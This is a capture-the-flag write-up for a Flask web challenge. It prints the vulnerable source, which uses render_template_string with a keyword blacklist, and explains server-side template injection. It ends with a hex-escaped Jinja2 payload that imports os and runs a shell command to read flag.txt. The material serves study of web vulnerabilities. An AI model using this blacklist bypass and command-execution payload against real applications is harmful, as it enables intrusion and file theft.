Category: Web

Points: 100


Build a website

Website is made of flask library which is a python framework to make web applications. We are also given the source code of the website.

#!/usr/bin/env python3

from flask import Flask, render_template_string, request, redirect, url_for
from base64 import b64encode, b64decode

app = Flask(__name__)

def index():
  # i dont remember how to return a string in flask so
  # here goes nothing :rooNervous:
  return render_template_string(open('templates/index.html').read())

def backend():
  website_b64 = b64encode(request.args['content'].encode())
  return redirect(url_for('site', content=website_b64))

def site():
  content = b64decode(request.args['content']).decode()
  #prevent xss
  blacklist = ['script', 'iframe', 'cookie', 'document', "las", "bas", "bal", ":roocursion:"] # no roocursion allowed
  for word in blacklist:
    if word in content:
      # this should scare them away
      content = "*** stack smashing detected ***: python3 terminated"
  csp = '''<head>\n<meta http-equiv="Content-Security-Policy" content="default-src 'none'">\n</head>\n'''
  return render_template_string(csp + content)

After interaction with the website and going through the code. The Website is vulnerable to server-sidetemplate injection where user inputs are not escaped properly or filtered.

By injection a simple jinj2 template, we can see that our input was being executed and rendered.

build a website 2


build a website 3

Also if any of the string from blacklist is present in the paylod it will redirect to us on an error.

Build a website Error

To bypass the filterswe can encode our string to byte using '\x' which is supported inpython.

Final payload:{{request['application']['\x5f\x5f\x67\x6c\x6f\x62\x61\x6c\x73\x5f\x5f']['__builtins__']['__import__']('os')['popen']('cat flag.txt').read()}}